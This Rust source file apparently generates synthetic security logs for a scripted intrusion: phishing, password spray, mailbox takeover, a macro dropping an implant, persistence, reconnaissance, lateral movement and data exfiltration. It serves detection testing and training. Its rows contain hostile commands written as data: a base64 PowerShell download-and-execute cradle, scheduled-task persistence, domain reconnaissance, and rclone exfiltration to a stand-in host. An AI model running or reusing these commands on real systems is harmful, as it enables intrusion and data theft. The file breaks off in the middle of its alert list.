//! The attack story: phishing and password spray → account takeover (MFA method, inbox rule,
//! directory reconnaissance through Graph) → a macro, encoded PowerShell and an implant on the
//! victim's workstation (persistence, reconnaissance, beaconing) → lateral movement to the file
//! server → exfiltration → credential theft, a second foothold and, after containment, the
//! attacker's return to prepare ransomware (see `impact`). Fixed rows, the same for every seed and
//! size.

mod impact;

use serde_json::json;

use super::org::{Org, SHAREPOINT, TENANT_ID, User};
use super::rows::{self, Audit, FileEvent, Logon, Mail, O365, Place, Proc, SignIn};
use super::sentinel::{self, Alert, Incident, IncidentVersion, Product};
use super::{Gen, HOUR, MINUTE, Rng, SECOND, boolean, dt, dy, file_hashes, int, long, real, s};

pub(super) const ATTACKER_IP: &str = "203.0.113.57";
pub(super) const C2_IP: &str = "203.0.113.88";
pub(super) const EXFIL_IP: &str = "203.0.113.201";
pub(super) const VICTIM: &str = "mbrown";
pub(super) const VICTIM_UPN: &str = "mbrown@contoso.com";
pub(super) const VICTIM_HOST: &str = "wks-014";
pub(super) const SERVER: &str = "srv-fs01";
pub(super) const DROPPED_BINARY: &str = "wuauhelper.exe";
pub(super) const INCIDENT_NUMBER: i32 = 1042;
pub(super) const PHISH_DOMAIN: &str = "contoso-helpdesk.example";
pub(super) const C2_DOMAIN: &str = "cdn-update.example";
pub(super) const EXFIL_DOMAIN: &str = "s3.storage-sync.example";

const ATTACKER_UA: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36";
const AZUREHOUND_UA: &str = "azurehound/v2.1.7";
const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA4ADgALwB1AHAAZABhAHQAZQAuAHAAcwAxACcAKQA=";
const DROP_DIR: &str = "C:\\ProgramData\\Microsoft\\WinUpdate";
const PHISH_URL: &str = "https://contoso-helpdesk.example/reset?user=";
const RUN_KEY: &str = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run";
const TASK_NAME: &str = "\\Microsoft\\Windows\\WinUpdateHelper";

/// Hours and minutes before now.
const fn ago(hours: i64, minutes: i64) -> i64 {
    hours * HOUR + minutes * MINUTE
}

const PHISH: i64 = ago(76, 0);
const CLICK: i64 = ago(75, 41);
const ZAP: i64 = ago(75, 20);
const SPRAY_1: i64 = ago(72, 0);
const SPRAY_2: i64 = ago(71, 0);
const TAKEOVER: i64 = ago(70, 30);
const MFA_REGISTERED: i64 = ago(70, 22);
const GRAPH_RECON: i64 = ago(70, 18);
const INBOX_RULE: i64 = ago(70, 10);
const INVOICE: i64 = ago(50, 0);
const MACRO: i64 = ago(49, 50);
const LATERAL: i64 = ago(47, 5);
const RDP: i64 = ago(46, 50);
const STAGING: i64 = ago(26, 10);
const EXFIL: i64 = ago(26, 0);
const MASS_DOWNLOAD: i64 = ago(25, 0);

pub(super) const DESCRIPTION: &str = include_str!("story.md");

/// One version of the story's incident: alerts so far, title, severity, status, owner, comments.
type StoryVersion<'a> = (
    usize,
    &'a str,
    &'a str,
    &'a str,
    Option<&'a User>,
    &'a [(&'a str, i64)],
);

/// Where the attacker signs in from.
const ATTACKER: Place<'static> = Place {
    ip: ATTACKER_IP,
    city: "Amsterdam",
    state: "Noord-Holland",
    country: "NL",
    lat: 52.3676,
    lon: 4.9041,
    asn: 64_500,
};

/// Writes the story's rows; returns the SystemAlertIds of its alerts in stage order.
pub(super) fn write(g: &mut Gen, org: &Org) -> Vec<String> {
    let mut rng = Rng::new(0x5707_2026);
    let victim = org.user(VICTIM);
    let wks = org.device(VICTIM_HOST);
    let fs = org.device(SERVER);
    let dc = org.device("srv-dc01");
    let now = g.now;
    let at = |ago: i64| now - ago;
    let rng = &mut rng;

    // Stage 0: phishing for credentials; one recipient clicks, ZAP removes the rest later.
    let phish_targets: Vec<usize> = (4..50).step_by(4).take(11).chain([13]).collect();
    let cluster = 7_204_311_i64;
    for (k, &i) in phish_targets.iter().enumerate() {
        let u = &org.users[i];
        let delivered = i == 13 || k % 4 == 0;
        let network_id = rng.guid_string();
        let internet_id = format!("<{}@{PHISH_DOMAIN}>", rng.hex(16));
        let url = format!("{PHISH_URL}{}", u.sam);
        let time = at(PHISH) + k as i64 * 7 * SECOND;
        rows::mail(
            g,
            Mail {
                time,
                network_id: &network_id,
                internet_id: &internet_id,
                from: "it-support@contoso-helpdesk.example",
                from_name: "Contoso IT Support",
                sender_ip: ATTACKER_IP,
                to: (&u.upn, &u.object_id),
                subject: "Action required: your Contoso password expires today",
                cluster,
                direction: "Inbound",
                delivery: if delivered {
                    ("Delivered", "Inbox/folder")
                } else {
                    ("Junked", "Junk folder")
                },
                threats: if delivered { "" } else { "Phish" },
                detection: if delivered {
                    ""
                } else {
                    "{\"Phish\":[\"URL detonation reputation\"]}"
                },
                confidence: if delivered {
                    ""
                } else {
                    "{\"Phish\":\"Normal\"}"
                },
                bcl: 0,
                attachments: &[],
                urls: &[&url],
                auth: "{\"SPF\":\"pass\",\"DKIM\":\"none\",\"DMARC\":\"none\",\"CompAuth\":\"fail\"}",
            },
        );
        if delivered {
            g.push(
                "EmailPostDeliveryEvents",
                [
                    ("Timestamp", dt(at(ZAP) + k as i64 * SECOND)),
                    ("NetworkMessageId", s(&network_id)),
                    ("InternetMessageId", s(&internet_id)),
                    ("Action", s("Moved to junk folder")),
                    ("ActionType", s("Phish ZAP")),
                    ("ActionTrigger", s("SpecialAction")),
                    ("ActionResult", s("Success")),
                    ("RecipientEmailAddress", s(&u.upn)),
                    ("DeliveryLocation", s("Junk folder")),
                    ("ThreatTypes", s("Phish")),
                    (
                        "DetectionMethods",
                        s("{\"Phish\":[\"URL detonation reputation\"]}"),
                    ),
                    ("ReportId", s(format!("{network_id}-zap"))),
                ],
            );
        }
        // Another recipient reports the mail as phishing.
        if k == 0 {
            rows::cloud_app_event(
                g,
                rows::CloudApp {
                    time: at(PHISH) + 25 * MINUTE,
                    action: "UserSubmission",
                    application: "Microsoft Exchange Online",
                    application_id: 20893,
                    account: (&u.display_name, &u.upn, &u.object_id),
                    ip: super::org::OFFICES[u.office].egress_ip,
                    activity_type: "Report",
                    object_name: "Action required: your Contoso password expires today",
                    object_type: "Email",
                    raw: json!({"Operation": "UserSubmission", "Workload": "Exchange", "SubmissionType": "Phish",
                                "NetworkMessageId": network_id, "UserId": u.upn}),
                    user_agent: rows::ORG_USER_AGENT,
                    admin: false,
                },
            );
        }
        // After detonation, Safe Links blocks a later click.
        if k == 4 {
            g.push(
                "UrlClickEvents",
                [
                    ("Timestamp", dt(at(ZAP) - 5 * MINUTE)),
                    ("Url", s(&url)),
                    ("ActionType", s("ClickBlocked")),
                    ("AccountUpn", s(&u.upn)),
                    ("Workload", s("Email")),
                    ("NetworkMessageId", s(&network_id)),
                    ("ThreatTypes", s("Phish")),
                    ("DetectionMethods", s("URL detonation reputation")),
                    ("IPAddress", s(super::org::OFFICES[u.office].egress_ip)),
                    ("IsClickedThrough", boolean(false)),
                    ("UrlChain", s(format!("[\"{url}\"]"))),
                    ("ReportId", s(format!("{network_id}-click"))),
                ],
            );
        }
        if i == 13 {
            g.push(
                "UrlClickEvents",
                [
                    ("Timestamp", dt(at(CLICK))),
                    ("Url", s(&url)),
                    ("ActionType", s("ClickAllowed")),
                    ("AccountUpn", s(&u.upn)),
                    ("Workload", s("Email")),
                    ("NetworkMessageId", s(&network_id)),
                    ("ThreatTypes", s("")),
                    ("DetectionMethods", s("")),
                    ("IPAddress", s(super::org::OFFICES[u.office].egress_ip)),
                    ("IsClickedThrough", boolean(true)),
                    ("UrlChain", s(format!("[\"{url}\"]"))),
                    ("ReportId", s(rng.guid_string())),
                ],
            );
        }
    }

    // Stage 1: password spray, two rounds over 42 accounts, then the victim's password works.
    let sprayed: Vec<usize> = (2..50).filter(|i| i % 8 != 7).take(42).collect();
    for (round, start) in [(0, SPRAY_1), (1, SPRAY_2)] {
        for (k, &i) in sprayed.iter().enumerate() {
            let u = &org.users[i];
            if round == 1 && u.sam == VICTIM {
                continue;
            }
            let locked = round == 1 && k % 9 == 4;
            let time = at(start) + k as i64 * 60 * SECOND + rng.range(0, 20) * SECOND;
            rows::signin(
                g,
                rng,
                SignIn {
                    time,
                    user: u.into(),
                    place: ATTACKER,
                    app: rows::APPS[0],
                    result: if locked { "50053" } else { "50126" },
                    client_app: "Browser",
                    user_agent: ATTACKER_UA,
                    risk: "none",
                    mfa: "",
                    device: None,
                    tenants: (TENANT_ID, TENANT_ID),
                    protocol: "none",
                    interactive: true,
                },
            );
        }
    }
    for (time, app) in [
        (at(TAKEOVER), rows::APPS[0]),
        (at(ago(70, 25)), rows::APPS[7]),
    ] {
        rows::signin(
            g,
            rng,
            SignIn {
                time,
                user: victim.into(),
                place: ATTACKER,
                app,
                result: "0",
                client_app: "Browser",
                user_agent: ATTACKER_UA,
                risk: "medium",
                mfa: "",
                device: None,
                tenants: (TENANT_ID, TENANT_ID),
                protocol: "none",
                interactive: true,
            },
        );
    }
    // The stolen session's tokens are refreshed from the attacker's address.
    for k in 0..6 {
        rows::signin(
            g,
            rng,
            SignIn {
                time: at(ago(70, 24)) + k * 11 * MINUTE,
                user: victim.into(),
                place: ATTACKER,
                app: if k % 2 == 0 {
                    rows::APPS[0]
                } else {
                    ("Microsoft Graph", "00000003-0000-0000-c000-000000000000")
                },
                result: "0",
                client_app: "Mobile Apps and Desktop clients",
                user_agent: ATTACKER_UA,
                risk: "medium",
                mfa: "",
                device: None,
                tenants: (TENANT_ID, TENANT_ID),
                protocol: "none",
                interactive: false,
            },
        );
    }
    risk(g, rng, victim, at(TAKEOVER));
    g.push(
        "BehaviorAnalytics",
        [
            ("TimeGenerated", dt(at(TAKEOVER))),
            ("TimeProcessed", dt(at(TAKEOVER) + 20 * MINUTE)),
            ("SourceRecordId", s(rng.guid_string())),
            ("ActivityType", s("LogOn")),
            ("ActionType", s("Sign-in")),
            ("UserName", s(VICTIM)),
            ("UserPrincipalName", s(VICTIM_UPN)),
            ("EventSource", s("Azure AD")),
            ("EventVendor", s("Microsoft")),
            ("EventProductVersion", s("1.0")),
            ("SourceIPAddress", s(ATTACKER_IP)),
            ("SourceIPLocation", s("Netherlands")),
            ("SourceDevice", s("")),
            ("DestinationDevice", s("")),
            ("NativeTableName", s("SigninLogs")),
            ("InvestigationPriority", int(7)),
            (
                "ActivityInsights",
                dy(json!({"FirstTimeUserConnectedFromCountry": true,
                          "CountryUncommonlyConnectedFromAmongPeers": true,
                          "FirstTimeUserConnectedViaBrowser": true,
                          "FirstTimeUserUsedApp": false,
                          "ISPUncommonlyUsedAmongPeers": true})),
            ),
            (
                "UsersInsights",
                dy(json!({"AccountDisplayName": victim.display_name, "AccountObjectID": victim.object_id,
                          "IsDormantAccount": false, "IsNewAccount": false})),
            ),
            ("DevicesInsights", dy(json!({"ThreatIntelIndicatorType": "Botnet"}))),
        ],
    );

    // Stage 2: persistence in the cloud: an MFA method, directory reconnaissance over Microsoft
    // Graph, and an inbox rule hiding security mail.
    let actor = json!({"user": {"id": victim.object_id, "displayName": null,
                                "userPrincipalName": victim.upn, "ipAddress": ATTACKER_IP}});
    let target = |props: serde_json::Value| {
        json!([{"id": victim.object_id, "displayName": null, "type": "User",
                "userPrincipalName": victim.upn, "modifiedProperties": props}])
    };
    for (ago_t, op, category, service, details, props) in [
        (
            MFA_REGISTERED,
            "User registered security info",
            "UserManagement",
            "Authentication Methods",
            json!([{"key": "Method", "value": "Authenticator App"}]),
            json!([]),
        ),
        (
            ago(70, 21),
            "Update user",
            "UserManagement",
            "Core Directory",
            json!([{"key": "UserType", "value": "Member"}]),
            json!([{"displayName": "StrongAuthenticationPhoneAppDetail", "oldValue": "[]",
                    "newValue": "[{\"DeviceName\":\"Pixel 7\",\"DeviceTag\":\"SoftwareTokenActivated\"}]"}]),
        ),
    ] {
        rows::audit(
            g,
            rng,
            Audit {
                time: at(ago_t),
                operation: op,
                category,
                service,
                actor: actor.clone(),
                actor_account: (&victim.display_name, &victim.upn, &victim.object_id),
                actor_ip: ATTACKER_IP,
                targets: target(props),
                details,
                result: "success",
                result_reason: "User registered Authenticator App with Notification and Code",
            },
        );
    }
    graph_recon(g, rng, victim, at(GRAPH_RECON));
    let rule = json!([{"Name": "Name", "Value": "."},
                      {"Name": "SubjectOrBodyContainsWords", "Value": "security;password;phish;invoice"},
                      {"Name": "MoveToFolder", "Value": "RSS Feeds"},
                      {"Name": "MarkAsRead", "Value": "True"},
                      {"Name": "StopProcessingRules", "Value": "True"}]);
    rows::office_activity(
        g,
        rng,
        O365 {
            time: at(INBOX_RULE),
            user: victim.into(),
            operation: "New-InboxRule",
            workload: "Exchange",
            record_type: "ExchangeAdmin",
            ip: ATTACKER_IP,
            user_agent: ATTACKER_UA,
            site: "",
            file: "",
            parameters: rule,
            extra: vec![
                ("OriginatingServer", s("AM6PR04MB5432 (15.20.7452.021)")),
                ("ExternalAccess", s("false")),
            ],
        },
    );
    for k in 0..10 {
        rows::office_activity(
            g,
            rng,
            O365 {
                time: at(ago(70, 5)) + k * 20 * SECOND,
                user: victim.into(),
                operation: "MailItemsAccessed",
                workload: "Exchange",
                record_type: "ExchangeItemAggregated",
                ip: ATTACKER_IP,
                user_agent: ATTACKER_UA,
                site: "",
                file: "",
                parameters: serde_json::Value::Null,
                extra: vec![("Logon_Type", s("0"))],
            },
        );
    }

    // Stage 3: the invoice, the macro, encoded PowerShell and a dropped binary on wks-014.
    let invoice_id = rng.guid_string();
    let invoice_internet = format!("<{}@fabrikam-billing.example>", rng.hex(16));
    rows::mail(
        g,
        Mail {
            time: at(INVOICE),
            network_id: &invoice_id,
            internet_id: &invoice_internet,
            from: "accounts@fabrikam-billing.example",
            from_name: "Fabrikam Accounts Receivable",
            sender_ip: C2_IP,
            to: (VICTIM_UPN, &victim.object_id),
            subject: "RE: Overdue remittance - invoice 4471",
            cluster: cluster + 1,
            direction: "Inbound",
            delivery: ("Delivered", "Inbox/folder"),
            threats: "",
            detection: "",
            confidence: "",
            bcl: 0,
            attachments: &[("Invoice_4471.docm", 48_213)],
            urls: &[],
            auth: "{\"SPF\":\"pass\",\"DKIM\":\"pass\",\"DMARC\":\"pass\",\"CompAuth\":\"pass\"}",
        },
    );
    let explorer = Proc {
        file: "explorer.exe",
        folder: "c:\\windows\\explorer.exe",
        command_line: "C:\\WINDOWS\\Explorer.EXE",
        pid: 5120,
        parent: "userinit.exe",
        account: Some(victim),
    };
    let outlook = Proc {
        file: "OUTLOOK.EXE",
        folder: "c:\\program files\\microsoft office\\root\\office16\\outlook.exe",
        command_line: "\"OUTLOOK.EXE\" ",
        pid: 8812,
        parent: "explorer.exe",
        account: Some(victim),
    };
    let winword = Proc {
        file: "WINWORD.EXE",
        folder: "c:\\program files\\microsoft office\\root\\office16\\winword.exe",
        command_line: "\"WINWORD.EXE\" /n \"C:\\Users\\mbrown\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7RZ1K2M\\Invoice_4471.docm\" /o \"\"",
        pid: 10_344,
        parent: "OUTLOOK.EXE",
        account: Some(victim),
    };
    let encoded = format!("powershell.exe -nop -w hidden -enc {ENCODED}");
    let powershell = Proc {
        file: "powershell.exe",
        folder: "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
        command_line: &encoded,
        pid: 11_208,
        parent: "WINWORD.EXE",
        account: Some(victim),
    };
    let dropped_cmd = format!("\"{DROP_DIR}\\{DROPPED_BINARY}\" /svc");
    let implant = Proc {
        file: DROPPED_BINARY,
        folder: "c:\\programdata\\microsoft\\winupdate\\wuauhelper.exe",
        command_line: &dropped_cmd,
        pid: 11_876,
        parent: "powershell.exe",
        account: Some(victim),
    };
    rows::process_created(g, wks, at(MACRO) - 2 * MINUTE, &explorer, &outlook);
    rows::file_event(
        g,
        wks,
        &outlook,
        FileEvent {
            time: at(MACRO) - 30 * SECOND,
            action: "FileCreated",
            name: "Invoice_4471.docm",
            folder: "C:\\Users\\mbrown\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7RZ1K2M",
            size: 48_213,
            origin_url: "",
            remote: None,
        },
    );
    rows::process_created(g, wks, at(MACRO), &outlook, &winword);
    rows::image_load(
        g,
        wks,
        at(MACRO) + 20 * SECOND,
        &winword,
        "VBE7.DLL",
        "C:\\Program Files\\Common Files\\microsoft shared\\VBA\\VBA7.1",
    );
    rows::process_created(g, wks, at(MACRO) + MINUTE, &winword, &powershell);
    rows::device_event(
        g,
        wks,
        at(MACRO) + MINUTE,
        &winword,
        "AsrOfficeChildProcessAudited",
        [
            ("FileName", s("powershell.exe")),
            (
                "FolderPath",
                s("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
            ),
            ("ProcessCommandLine", s(&encoded)),
            ("ProcessId", long(powershell.pid)),
            (
                "AdditionalFields",
                dy(json!({"IsAudit": true, "RuleId": "d4f940ab-401b-4efc-aadc-ad5f3c50688a"})),
            ),
        ],
    );
    for (dll, folder) in [
        (
            "System.Management.Automation.ni.dll",
            "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#",
        ),
        ("amsi.dll", "C:\\Windows\\System32"),
    ] {
        rows::image_load(
            g,
            wks,
            at(MACRO) + MINUTE + 2 * SECOND,
            &powershell,
            dll,
            folder,
        );
    }
    rows::device_event(
        g,
        wks,
        at(MACRO) + MINUTE + 3 * SECOND,
        &powershell,
        "PowerShellCommand",
        [("AdditionalFields", dy(json!({"Command": "IEX"})))],
    );
    rows::device_event(
        g,
        wks,
        at(MACRO) + MINUTE + 3 * SECOND,
        &powershell,
        "PowerShellCommand",
        [(
            "AdditionalFields",
            dy(json!({"Command": "Invoke-WebRequest"})),
        )],
    );
    rows::connection(
        g,
        wks,
        at(MACRO) + MINUTE + 4 * SECOND,
        &powershell,
        "ConnectionSuccess",
        (C2_IP, 80, "http://203.0.113.88/update.ps1"),
        51_544,
    );
    dns_lookup(
        g,
        rng,
        at(MACRO) + MINUTE + 3 * SECOND,
        &wks.ip,
        C2_DOMAIN,
        C2_IP,
    );
    rows::file_event(
        g,
        wks,
        &powershell,
        FileEvent {
            time: at(MACRO) + 2 * MINUTE,
            action: "FileCreated",
            name: DROPPED_BINARY,
            folder: DROP_DIR,
            size: 1_482_752,
            origin_url: "http://203.0.113.88/wuauhelper.bin",
            remote: None,
        },
    );
    rows::process_created(g, wks, at(MACRO) + 3 * MINUTE, &powershell, &implant);
    // Persistence: a Run key and a scheduled task.
    let implant_path = format!("{DROP_DIR}\\{DROPPED_BINARY} /svc");
    rows::registry_event(
        g,
        wks,
        at(MACRO) + 3 * MINUTE + 20 * SECOND,
        &implant,
        "RegistryValueSet",
        (
            &format!("HKEY_CURRENT_USER\\{}\\{RUN_KEY}", victim.sid),
            "WinUpdateHelper",
            "String",
            &implant_path,
        ),
    );
    let schtasks_cmd = format!(
        "schtasks.exe /create /tn \"Microsoft\\Windows\\WinUpdateHelper\" /tr \"{DROP_DIR}\\{DROPPED_BINARY} /svc\" /sc onlogon /ru mbrown /f"
    );
    let recon: [(&str, &str, String); 6] = [
        (
            "schtasks.exe",
            "c:\\windows\\system32\\schtasks.exe",
            schtasks_cmd,
        ),
        (
            "whoami.exe",
            "c:\\windows\\system32\\whoami.exe",
            "whoami.exe /all".into(),
        ),
        (
            "net.exe",
            "c:\\windows\\system32\\net.exe",
            "net.exe group \"Domain Admins\" /domain".into(),
        ),
        (
            "nltest.exe",
            "c:\\windows\\system32\\nltest.exe",
            "nltest.exe /dclist:contoso.com".into(),
        ),
        (
            "net.exe",
            "c:\\windows\\system32\\net.exe",
            "net.exe view \\\\srv-fs01.contoso.com".into(),
        ),
        // Which servers has the victim used Remote Desktop to?
        (
            "reg.exe",
            "c:\\windows\\system32\\reg.exe",
            "reg query \"HKEY_CURRENT_USER\\Software\\Microsoft\\Terminal Server Client\\Default\""
                .into(),
        ),
    ];
    for (k, (file, folder, cmd)) in recon.iter().enumerate() {
        let child = Proc {
            file,
            folder,
            command_line: cmd,
            pid: 12_000 + k as i64 * 44,
            parent: DROPPED_BINARY,
            account: Some(victim),
        };
        let time = at(MACRO) + (4 + 6 * k as i64) * MINUTE;
        rows::process_created(g, wks, time, &implant, &child);
        match k {
            0 => {
                let task_xml = format!(
                    "<Task><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>{DROP_DIR}\\{DROPPED_BINARY}</Command><Arguments>/svc</Arguments></Exec></Actions></Task>"
                );
                rows::device_event(
                    g,
                    wks,
                    time + 2 * SECOND,
                    &child,
                    "ScheduledTaskCreated",
                    [(
                        "AdditionalFields",
                        dy(json!({"TaskName": TASK_NAME, "TaskContent": task_xml})),
                    )],
                );
                rows::security_event(
                    g,
                    wks,
                    time + 2 * SECOND,
                    4698,
                    [
                        ("Account", s(format!("CONTOSO\\{VICTIM}"))),
                        ("AccountType", s("User")),
                        ("SubjectUserName", s(VICTIM)),
                        ("SubjectDomainName", s("CONTOSO")),
                        ("SubjectUserSid", s(&victim.sid)),
                        ("SubjectLogonId", s("0x5a3f21")),
                        (
                            "EventData",
                            s(format!(
                                "<EventData><Data Name=\"TaskName\">{TASK_NAME}</Data><Data Name=\"TaskContent\">{}</Data></EventData>",
                                task_xml.replace('<', "&lt;").replace('>', "&gt;")
                            )),
                        ),
                    ],
                );
            }
            2 => {
                identity_query(
                    g,
                    victim,
                    wks,
                    time + 5 * SECOND,
                    ("SAMR query", "QueryGroup", "Domain Admins", "Samr", ""),
                );
                rows::image_load(g, wks, time, &child, "samlib.dll", "C:\\Windows\\System32");
            }
            3 => {
                identity_query(
                    g,
                    victim,
                    wks,
                    time + 5 * SECOND,
                    (
                        "DNS query",
                        "Srv",
                        "_ldap._tcp.dc._msdcs.contoso.com",
                        "Dns",
                        "",
                    ),
                );
                identity_query(
                    g,
                    victim,
                    wks,
                    time + 9 * SECOND,
                    (
                        "LDAP query",
                        "AllDomainControllers",
                        "contoso.com",
                        "Ldap",
                        "(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))",
                    ),
                );
            }
            _ => {}
        }
    }
    let mut beacon = at(MACRO) + 5 * MINUTE;
    while beacon < at(LATERAL) {
        rows::connection(
            g,
            wks,
            beacon,
            &implant,
            "ConnectionSuccess",
            (C2_IP, 443, C2_DOMAIN),
            rng.range(50_000, 60_000) as i32,
        );
        beacon += 10 * MINUTE + rng.range(0, 60) * SECOND;
    }

    // Stage 4: lateral movement to srv-fs01 with the victim's account.
    let system = rows::SYSTEM;
    rows::connection(
        g,
        wks,
        at(LATERAL) - 10 * SECOND,
        &implant,
        "ConnectionSuccess",
        (&fs.ip, 445, ""),
        52_101,
    );
    rows::logon(
        g,
        fs,
        Logon {
            time: at(LATERAL),
            user: Some(victim),
            logon_type: "Network",
            success: true,
            protocol: "NTLM",
            remote: Some(wks),
        },
    );
    let kernel = Proc {
        file: "System",
        folder: "",
        command_line: "",
        pid: 4,
        parent: "",
        account: None,
    };
    rows::file_event(
        g,
        fs,
        &kernel,
        FileEvent {
            time: at(LATERAL) + 30 * SECOND,
            action: "FileCreated",
            name: DROPPED_BINARY,
            folder: DROP_DIR,
            size: 1_482_752,
            origin_url: "",
            remote: Some((victim, &wks.ip)),
        },
    );
    g.push(
        "IdentityDirectoryEvents",
        [
            ("Timestamp", dt(at(LATERAL) + 31 * SECOND)),
            ("ActionType", s("SMB file copy")),
            ("Application", s("Active Directory")),
            ("TargetDeviceName", s(&fs.fqdn)),
            ("DestinationDeviceName", s(&fs.fqdn)),
            ("DestinationIPAddress", s(&fs.ip)),
            ("DestinationPort", int(445)),
            ("Protocol", s("Smb")),
            ("AccountName", s(VICTIM)),
            ("AccountDomain", s(super::org::DOMAIN)),
            ("AccountUpn", s(VICTIM_UPN)),
            ("AccountSid", s(&victim.sid)),
            ("AccountObjectId", s(&victim.object_id)),
            ("AccountDisplayName", s(&victim.display_name)),
            ("DeviceName", s(&wks.fqdn)),
            ("IPAddress", s(&wks.ip)),
            ("Port", int(52_101)),
            ("ReportId", s(rng.guid_string())),
            (
                "AdditionalFields",
                dy(json!({"FileName": DROPPED_BINARY, "FilePath": "ProgramData\\Microsoft\\WinUpdate",
                          "Count": "1", "FileOperation": "Write", "SourceComputerOperatingSystemType": "windows"})),
            ),
        ],
    );
    rows::logon(
        g,
        dc,
        Logon {
            time: at(ago(47, 0)),
            user: Some(victim),
            logon_type: "Network",
            success: false,
            protocol: "NTLM",
            remote: Some(wks),
        },
    );
    let mstsc = Proc {
        file: "mstsc.exe",
        folder: "c:\\windows\\system32\\mstsc.exe",
        command_line: "mstsc.exe /v:srv-fs01.contoso.com",
        pid: 13_420,
        parent: DROPPED_BINARY,
        account: Some(victim),
    };
    rows::process_created(g, wks, at(RDP) - 20 * SECOND, &implant, &mstsc);
    rows::connection(
        g,
        wks,
        at(RDP) - 15 * SECOND,
        &mstsc,
        "ConnectionSuccess",
        (&fs.ip, 3389, ""),
        52_377,
    );
    let svchost = Proc {
        file: "svchost.exe",
        folder: "c:\\windows\\system32\\svchost.exe",
        command_line: "svchost.exe -k termsvcs -s TermService",
        pid: 1_304,
        parent: "services.exe",
        account: None,
    };
    rows::connection(
        g,
        fs,
        at(RDP) - 14 * SECOND,
        &svchost,
        "InboundConnectionAccepted",
        (&wks.ip, 52_377, ""),
        3389,
    );
    rows::logon(
        g,
        fs,
        Logon {
            time: at(RDP),
            user: Some(victim),
            logon_type: "RemoteInteractive",
            success: true,
            protocol: "Negotiate",
            remote: Some(wks),
        },
    );
    let fs_explorer = Proc {
        pid: 7_716,
        ..explorer
    };
    let fs_implant = Proc {
        pid: 8_020,
        parent: "explorer.exe",
        ..implant
    };
    rows::process_created(g, fs, at(ago(46, 45)), &fs_explorer, &fs_implant);
    rows::process_created(
        g,
        fs,
        at(ago(46, 40)),
        &system,
        &Proc {
            file: "svchost.exe",
            ..svchost
        },
    );

    // Stage 5: exfiltration from srv-fs01 and from SharePoint.
    let seven_cmd = "7z.exe a -pInv0ice4471 -mhe=on C:\\ProgramData\\Microsoft\\WinUpdate\\fin.7z D:\\Shares\\Finance\\*";
    let seven = Proc {
        file: "7z.exe",
        folder: "c:\\program files\\7-zip\\7z.exe",
        command_line: seven_cmd,
        pid: 9_100,
        parent: DROPPED_BINARY,
        account: Some(victim),
    };
    rows::process_created(g, fs, at(STAGING), &fs_implant, &seven);
    rows::file_event(
        g,
        fs,
        &seven,
        FileEvent {
            time: at(ago(26, 3)),
            action: "FileCreated",
            name: "fin.7z",
            folder: DROP_DIR,
            size: 2_415_919_104,
            origin_url: "",
            remote: None,
        },
    );
    let rclone_cmd = "rclone.exe copy C:\\ProgramData\\Microsoft\\WinUpdate\\fin.7z s3:backup-2026 --transfers 8 --no-check-certificate";
    let rclone = Proc {
        file: "rclone.exe",
        folder: "c:\\programdata\\microsoft\\winupdate\\rclone.exe",
        command_line: rclone_cmd,
        pid: 9_388,
        parent: DROPPED_BINARY,
        account: Some(victim),
    };
    rows::process_created(g, fs, at(EXFIL), &fs_implant, &rclone);
    dns_lookup(
        g,
        rng,
        at(EXFIL) + 5 * SECOND,
        &fs.ip,
        EXFIL_DOMAIN,
        EXFIL_IP,
    );
    for k in 0..8 {
        let start = at(EXFIL) + 10 * SECOND + k * 5 * MINUTE;
        let port = 53_000 + k as i32;
        rows::connection(
            g,
            fs,
            start,
            &rclone,
            "ConnectionSuccess",
            (EXFIL_IP, 443, EXFIL_DOMAIN),
            port,
        );
        let sent = 301_989_888 + rng.range(0, 1_000_000);
        g.push(
            "CommonSecurityLog",
            rows::firewall_row(
                start + 5 * MINUTE,
                (&fs.ip, port),
                (EXFIL_IP, 443),
                "ssl",
                (sent, rng.range(200_000, 400_000)),
                "contoso\\mbrown",
            ),
        );
    }
    let site = format!("{SHAREPOINT}/sites/Finance/");
    for k in 0..160 {
        let name = format!(
            "{}-{:03}.xlsx",
            ["Payroll", "Forecast", "Vendors", "Budget"][k % 4],
            k
        );
        rows::office_activity(
            g,
            rng,
            O365 {
                time: at(MASS_DOWNLOAD) + k as i64 * 7 * SECOND,
                user: victim.into(),
                operation: "FileDownloaded",
                workload: "SharePoint",
                record_type: "SharePointFileOperation",
                ip: ATTACKER_IP,
                user_agent: ATTACKER_UA,
                site: &site,
                file: &name,
                parameters: serde_json::Value::Null,
                extra: Vec::new(),
            },
        );
    }

    impact::write(g, org, rng, at);

    threat_intelligence(g, rng, at(ago(90, 0)));

    // The alerts and the incident that groups them.
    let account = sentinel::account(victim);
    let mut alerts = Vec::new();
    let specs = [
        Alert {
            name: "Password Spray",
            severity: "Medium",
            product: Product::IdentityProtection,
            description: "Multiple usernames were attacked with common passwords from one IP address, and one sign-in succeeded.",
            tactics: "CredentialAccess",
            techniques: &["T1110.003"],
            compromised: VICTIM_UPN,
            entities: vec![account.clone(), sentinel::ip(ATTACKER_IP)],
            start: at(SPRAY_1),
            end: at(TAKEOVER),
        },
        Alert {
            name: "Unfamiliar sign-in properties",
            severity: "Medium",
            product: Product::IdentityProtection,
            description: "The sign-in had properties not seen recently for this user: IP address, location and browser.",
            tactics: "InitialAccess",
            techniques: &["T1078"],
            compromised: VICTIM_UPN,
            entities: vec![account.clone(), sentinel::ip(ATTACKER_IP)],
            start: at(TAKEOVER),
            end: at(TAKEOVER),
        },
        Alert {
            name: "Suspicious inbox manipulation rule",
            severity: "Medium",
            product: Product::CloudApps,
            description: "A rule that moves and marks as read messages about security and passwords was set on the user's inbox.",
